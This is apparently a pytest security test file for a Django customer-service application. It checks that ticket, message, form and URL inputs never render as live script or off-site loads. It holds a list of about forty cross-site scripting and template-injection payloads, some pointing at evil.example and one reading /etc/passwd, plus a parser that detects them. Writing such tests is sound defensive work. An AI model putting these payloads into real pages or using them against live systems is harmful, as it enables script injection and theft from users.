"""Words of customers that are programs: shown on every page of staff and customers, run on none."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.security.scene import PDF
from tests.security.walking import addresses, path_for
from zhulian.customers.models import Customer
from zhulian.interactions.models import Message
from zhulian.people.models import Queue
from zhulian.platform.models import StoredFile, User
from zhulian.tickets.models import CannedAnswer, Ticket

EVIL = "evil.example"
PAYLOADS = (
    "<script>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<img src=//evil.example/p.gif>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<button formaction=//evil.example>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video poster=//evil.example/p>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "{% include '/etc/passwd' %}",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<div hx-on:load=alert(1)>x</div>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<x/onclick=alert(1)>x</x>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "\u202e<scr\u0000ipt>alert(1)</scr\u0000ipt>",
)
ALL = " ".join(PAYLOADS)
LOADS = {
    "src",
    "href",
    "action",
    "formaction",
    "data",
    "poster",
    "srcset",
    "srcdoc",
    "xlink:href",
    "background",
    "style",
    "content",
}


class Watch(HTMLParser):
    """Notes everything in a page that would run, load or post somewhere else."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.in_script = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag in {"object", "embed", "math"} or "srcdoc" in given or (tag == "base" and "href" in given):
            self.found.append(f"<{tag}>")
        if tag == "script":
            self.in_script = given.get("type", "text/javascript")
            if "src" in given and not given["src"].startswith("/static/"):
                self.found.append(f"script from {given['src']}")
        for name, value in given.items():
            self._attribute(tag, name, value)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script":
            self.in_script = ""

    def handle_data(self, data: str) -> None:
        if self.in_script and self.in_script != "application/json" and data.strip():
            self.found.append(f"inline script {data[:60]!r}")

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith(("on", "hx-on", "data-hx-on")):
            self.found.append(f"handler {name} on <{tag}>")
        if (name in LOADS or name.startswith(("hx-", "data-hx-"))) and leads_away(tag, name, value):
            self.found.append(f"{name}={value[:60]} on <{tag}>")


def leads_away(tag: str, name: str, value: str) -> bool:
    """True for a value that runs, or that fetches or posts somewhere else; a link that a person may follow does not."""
    text = "".join(value.split()).lower()
    if text.startswith(("javascript:", "vbscript:", "data:text")):
        return True
    if tag == "a" and name == "href":
        return False
    if name in {"src", "href", "action"}:
        return urlsplit(text.replace("\\", "/")).netloc not in {"", "testserver"}
    return EVIL in text


def watch(text: str) -> list[str]:
    """What would run or load in this page."""
    parser = Watch()
    parser.feed(text)
    parser.close()
    return parser.found


def test_the_watcher_sees_every_kind_of_attack():
    """Else the tests below would prove nothing."""
    harmless = [
        text
        for text in PAYLOADS
        if text.startswith(("{", "<style", "<link", "<noscript", "\u202e", "<meta", "<video"))
    ]
    missed = [text for text in PAYLOADS if text not in harmless and not watch(f"<p>{text}</p>")]
    assert missed == []


@pytest.fixture
def poisoned(scene):
    """The payloads in everything that a customer, a colleague or an administrator can name."""
    Ticket.objects.filter(pk=scene.ticket.pk).update(subject=ALL[:290])
    Customer.objects.update(name=PAYLOADS[3], remark=ALL)
    Message.objects.update(body=ALL, html=f"<p>Guten Tag</p>{ALL}", quoted=ALL, author_name=PAYLOADS[0])
    StoredFile.objects.update(name='"><img src=x onerror=alert(1)>.pdf')
    User.objects.update(name=PAYLOADS[5])
    Queue.objects.update(name=PAYLOADS[4], name_en=PAYLOADS[4])
    CannedAnswer.objects.update(name=PAYLOADS[2], body=ALL)
    scene.centre.a.name = scene.centre.a.name_en = PAYLOADS[9]
    scene.centre.a.greeting = scene.centre.a.greeting_en = ALL[:200]
    scene.centre.a.save()
    scene.form.name = PAYLOADS[1]
    scene.form.save()
    for note in scene.ticket.notes.all():
        note.body = ALL
        note.save()
    return scene


@pytest.mark.parametrize("role", ["admin", "manager", "wang", "sun", "link"])
def test_no_page_runs_what_somebody_wrote(poisoned, role):
    browser, live, shown = poisoned.browser(role), [], 0
    for address in addresses(poisoned):
        answer = browser.get(path_for(address, poisoned, role))
        if not answer.headers.get("Content-Type", "").startswith("text/html"):
            continue
        text = answer.content.decode()
        shown += "alert(1)" in text
        assert "Content-Security-Policy" in answer.headers
        live += [f"{address.name}: {what}" for what in watch(text)]
    assert live == []
    assert shown >= 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_web_form_keeps_the_words_and_runs_nothing(scene, payload):
    file = SimpleUploadedFile(f"{payload[:60].replace('/', '')}.pdf", PDF)
    body = {
        "key": "2" * 32, "subject": payload[:190], "description": payload, "name": payload[:110],
        "email": "attacker@example.com", "type": scene.centre.type.pk, "website": "", "attachments": file,
    }  # fmt: skip
    assert scene.browser("nobody").post("/p/a-co/ask/", body).status_code == 302
    ticket = Ticket.objects.latest("pk")
    page = scene.browser("sun").get(f"/desk/tickets/{ticket.pk}/").content.decode()
    assert watch(page) == []
    assert Message.objects.get(conversation=ticket.conversation).body == payload.replace("\u0000", "").strip()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_mail_is_shown_without_what_runs_or_loads(scene, payload):
    Message.objects.filter(pk=scene.ids["message_id"]).update(html=f"<p>Hello {payload} there</p>")
    path = f"/desk/tickets/{scene.ticket.pk}/messages/{scene.ids['message_id']}/"
    answer = scene.browser("wang").get(path)
    assert answer.status_code == 200 and watch(answer.content.decode()) == []


def test_an_error_beside_a_field_shows_the_words_and_runs_nothing(scene):
    for payload in PAYLOADS:
        body = {
            "subject": payload,
            "description": payload,
            "name": payload,
            "phone": payload,
            "email": payload,
        }
        answer = scene.browser("nobody").post("/p/a-co/ask/", {**body, "website": ""})
        assert answer.status_code in {422, 429} and watch(answer.content.decode()) == []
        answer = scene.browser("nobody").get("/p/a-co/", {"src": payload})
        assert watch(answer.content.decode()) == []


@pytest.mark.parametrize(
    "name", ["q", "state", "queue", "cursor", "from", "to", "client", "current", "archived", "show"]
)
def test_nothing_in_an_address_runs(scene, name):
    browser = scene.browser("admin")
    for path in ("/desk/tickets/", "/desk/ledger/", "/settings/users/", "/settings/journal/", "/intake/raw/"):
        answer = browser.get(path, {name: '"><script>alert(1)</script>'})
        assert answer.status_code < 500 and watch(answer.content.decode()) == []
